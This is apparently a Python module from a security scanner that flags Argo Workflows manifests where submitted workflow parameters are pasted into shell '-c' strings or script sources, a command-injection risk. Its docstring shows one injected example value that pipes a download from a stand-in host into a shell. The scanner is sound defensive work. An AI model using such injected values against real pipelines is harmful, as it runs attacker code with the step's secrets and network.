"""Argo Workflows: submission parameters pasted into code.

Argo replaces ``{{workflow.parameters.NAME}}`` with whatever the person (or the API client,
or the event) that submits the workflow gives, before the step runs. Pasted into a shell's
``-c`` string or into a ``script`` template's ``source``, the value becomes code: a
parameter such as ``x; curl evil.sh | sh`` runs in the step, with its service account,
secrets and network. Passed as its own argument (``args: ["--model", "{{...}}"]``) it stays
data, and is not reported. ``{{inputs.parameters.*}}`` are left alone: they are often the
workflow's own constants (``withItems``).

The manifest is read with its ``{{ }}`` expressions blanked (as for Helm templates), so the
places are found in the parsed document and the parameters in the lines as written.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping, Sequence
from pathlib import PurePosixPath
from typing import Any

from secplan.model import Finding, Location
from secplan.scanners.platform_config.common import as_list, key_line, line_of, mappings
from secplan.scanners.platform_config.rules import WORKFLOW_INJECTION

_SUBMITTED = re.compile(r"\{\{\s*workflow\.parameters\.([\w.-]{1,100})\s*\}\}")
_SHELLS = frozenset({"sh", "bash", "ash", "dash", "zsh"})
MAX_WALK_DEPTH = 24


def argo_injections(obj: Mapping[Any, Any], rel: str, raw: Sequence[str]) -> Iterator[Finding]:
    """CF127 for each submission parameter pasted into a shell string or script source of
    an Argo object (``Workflow``, ``WorkflowTemplate``, ``CronWorkflow``...); ``raw``: the
    file's lines as written."""
    if "argoproj.io" not in str(obj.get("apiVersion", "")) or not raw:
        return
    for node in mappings(obj.get("spec"), MAX_WALK_DEPTH):
        for first, count, where in _code_places(node):
            for line in range(first, min(first + count, len(raw) + 1)):
                for m in _SUBMITTED.finditer(raw[line - 1]):
                    yield WORKFLOW_INJECTION.at(
                        Location(path=rel, line=line),
                        f"workflow parameter {m.group(1)!r} is pasted into {where}: whoever "
                        "submits the workflow chooses code that the step runs",
                        evidence=m.group(0),
                    )


def _code_places(node: Mapping[Any, Any]) -> Iterator[tuple[int, int, str]]:
    """``(first line, line count, what)`` of the code a container or script template of
    ``node`` runs: a script's ``source``, the strings of a shell's ``-c``."""
    source = node.get("source")
    at = key_line(node, "source", line_of(node))
    if isinstance(source, str) and isinstance(node.get("image"), str) and at is not None:
        block = "\n" in source  # ``source: |`` starts on the line after its key
        yield at + (1 if block else 0), max(len(source.splitlines()), 1), "a script's source"
    command = [str(w) for w in as_list(node.get("command"))]
    args = [str(w) for w in as_list(node.get("args"))]
    argv = command + args
    if not argv or PurePosixPath(argv[0]).name not in _SHELLS or "-c" not in argv:
        return
    start = argv.index("-c") + 1
    for key, words in (("command", command), ("args", args)):
        at = key_line(node, key, line_of(node))
        strings = words[max(start - (0 if key == "command" else len(command)), 0) :]
        if at is not None and strings:
            lines = sum(max(len(s.splitlines()), 1) for s in strings)
            yield at, lines + 1, "a shell's -c string"
